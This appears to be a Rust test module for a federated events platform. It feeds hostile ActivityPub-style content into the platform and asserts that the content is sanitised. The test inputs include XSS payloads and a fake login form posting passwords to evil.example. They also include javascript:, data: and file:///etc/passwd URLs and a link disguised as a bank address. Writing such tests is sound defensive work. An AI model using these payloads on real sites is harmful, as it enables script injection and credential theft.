//! Markup, addresses and links in what a followed region sends.

use super::foe::{LEFT, poisoned, with};
use super::{CHROME, Scene};
use serde_json::{Value, json};

pub(super) async fn c01_c02_nothing_becomes_markup(scene: &Scene) {
    let (foe, leave) = (&scene.foe, &Value::Null);
    foe.says(scene, "Create", poisoned(&with(&foe.event, "markup", leave), leave)).await;
    foe.says(scene, "Create", poisoned(&with(&foe.task, "markup", leave), leave)).await;
    for (honest, id) in [(&foe.producer, "markup"), (&foe.organisation, "markup-too")] {
        let mut actor = poisoned(&with(honest, id, leave), leave);
        // The titles of the fields are what they are known by.
        let fields = actor["attachment"].as_array_mut().unwrap().iter_mut();
        for (field, honest) in fields.zip(honest["attachment"].as_array().unwrap()) {
            field["name"] = honest["name"].clone();
        }
        assert_eq!(foe.presents(scene, &actor).await, "done", "{}", actor["attachment"]);
    }
    // The same text is here on both databases, whatever was in it: one form, nothing hidden.
    let event = &scene.learnt("/tapahtumat").await[0];
    let plain = format!("Tapahtuma paikallax\" onmouseover=\"alert(1)\" '><svg onload=alert(4)>{LEFT}");
    assert_eq!(event["name"], plain.as_str());
    assert_eq!(event["place"]["name"], plain.replace("Tapahtuma paikalla", "Kulttuuritalo").as_str());
    assert!(event["content"].as_str().unwrap().ends_with(LEFT) || event["content"].as_str().unwrap().contains(LEFT));
    assert!(event["tags"].to_string().contains("Hän"), "{}", event["tags"]);
    let task = &scene.learnt("/tehtavat").await[0];
    assert!(
        task["title"].as_str().unwrap().ends_with(LEFT) && task["client"].as_str().unwrap().ends_with(LEFT),
        "{task}"
    );
    let producer = &scene.learnt("/tuottajat").await[0];
    for field in ["name", "headline", "municipality"] {
        assert!(producer[field].as_str().unwrap().ends_with(LEFT), "{field}: {producer}");
    }
    assert!(producer["bio"].as_str().unwrap().contains(LEFT), "{producer}");
    assert!(scene.learnt("/organisaatiot").await[0]["name"].as_str().unwrap().ends_with(LEFT));
    assert_eq!(scene.learnt("/tapahtumat").await.len(), 1);
    scene.nothing_harms().await;
    // The markup of the corpus, as the text of an event.
    let html = "<p onclick=alert(1) style=\"background:url(//evil.example)\">Teksti</p><svg><a><set attributeName=href \
                to=javascript:alert(1)></set></a></svg><math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img \
                src=1 onerror=alert(1)&gt;\"><iframe srcdoc=\"<script>alert(1)</script>\"></iframe><base href=//evil.example><form \
                action=//evil.example><input name=password></form><meta http-equiv=refresh content=\"0;url=//evil.example\">";
    for (name, html) in [
        ("corpus", html.to_owned()),
        ("deep", "<b>".repeat(100_000)),
        ("long", format!("<p {}>x", "a ".repeat(200_000))),
    ] {
        let changes = json!({"content": html, "contentMap": null, "name": name, "summary": html});
        foe.says(scene, "Create", with(&foe.event, name, &changes)).await;
    }
    assert_eq!(scene.learnt("/tapahtumat").await.len(), 4);
    scene.nothing_harms().await;
}

pub(super) async fn c03_addresses_that_run(scene: &Scene) {
    let foe = &scene.foe;
    let addresses = [
        "javascript:alert(1)",
        "jAvAscript&colon;alert(1)",
        "java\nscript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        "//third.example/x",
        "https://user:password@third.example/",
        "https://third.example/\" onclick=\"alert(1)",
    ];
    let mut said = Vec::new();
    for (at, address) in addresses.iter().enumerate() {
        let named = |document: &Value| with(document, &format!("runs{at}"), &json!({"name": format!("Osoite {at}")}));
        let mut event = poisoned(&named(&foe.event), &json!(address));
        event["location"] = json!([{"type": "VirtualLocation", "url": address}, {"type": "Link", "href": address}]);
        event["content"] = json!(format!("<p><a href=\"{address}\">tästä</a><img src=\"{address}\"></p>"));
        said.push(foe.voice.activity("Create", event));
        said.push(foe.voice.activity("Create", poisoned(&named(&foe.task), &json!(address))));
        for (honest, kind) in [(&foe.producer, "person"), (&foe.organisation, "company")] {
            let named = with(honest, &format!("runs-{kind}{at}"), &json!({"name": format!("Osoite {at}")}));
            let mut actor = poisoned(&named, &json!(address));
            for field in actor["attachment"].as_array_mut().unwrap() {
                field["value"] = json!(format!("<a href=\"{address}\">Pirkanmaa</a>"));
            }
            let titles = honest["attachment"].as_array().unwrap().iter().map(|field| field["name"].clone());
            for (field, title) in actor["attachment"].as_array_mut().unwrap().iter_mut().zip(titles) {
                field["name"] = title;
            }
            said.push(foe.presenting(scene, &actor));
        }
    }
    for (activity, row) in said.iter().zip(foe.sends_all(scene, &said).await) {
        assert_eq!(row["state"], "done", "{}: {activity}", row["reason"]);
    }
    let events = scene.learnt("/tapahtumat").await;
    let of_here: Vec<&Value> =
        events.iter().filter(|event| event["name"].as_str().unwrap().starts_with("Osoite")).collect();
    assert_eq!(of_here.len(), addresses.len());
    for event in of_here {
        for field in ["online_url", "participation_url", "picture"] {
            assert_eq!(event[field], Value::Null, "{event}");
        }
        assert_eq!(event["source"]["page"], event["source"]["id"], "{event}");
    }
    scene.nothing_harms().await;
}

pub(super) async fn c05_links_that_lie(scene: &Scene) {
    let foe = &scene.foe;
    let html = "<p>Kirjaudu: <a href=\"https://evil.example/login\">https://bank.example/<b>tili</b></a></p>";
    let changes = json!({"content": html, "contentMap": null, "name": "Linkki valehtelee"});
    foe.says(scene, "Create", with(&foe.event, "lies", &changes)).await;
    let events = scene.learnt("/tapahtumat").await;
    let event = events.iter().find(|event| event["name"] == "Linkki valehtelee").unwrap();
    assert!(event["content"].as_str().unwrap().contains("https://bank.example/tili (evil.example)</a>"), "{event}");
    let page = scene.node.get(&scene.page_of("/tapahtumat", event), CHROME).await.body;
    assert!(page.contains("https://bank.example/tili (evil.example)</a>"), "{page}");
}
